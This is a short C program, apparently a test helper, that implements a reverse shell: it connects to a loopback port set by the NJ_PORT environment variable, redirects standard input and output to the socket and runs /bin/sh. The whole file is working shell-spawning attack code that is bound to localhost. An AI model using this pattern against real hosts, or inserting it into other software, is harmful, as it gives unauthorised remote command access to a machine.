/* A reverse shell of one process: connect, dup2 three times, execve. */
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	const char *port = getenv("NJ_PORT");
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons((uint16_t)atoi(port ? port : "0")),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	for (int i = 0; i < 3; i++)
		if (dup2(fd, i) < 0)
			return 1;
	(void)execl("/bin/sh", "sh", (char *)NULL);
	return 1;
}
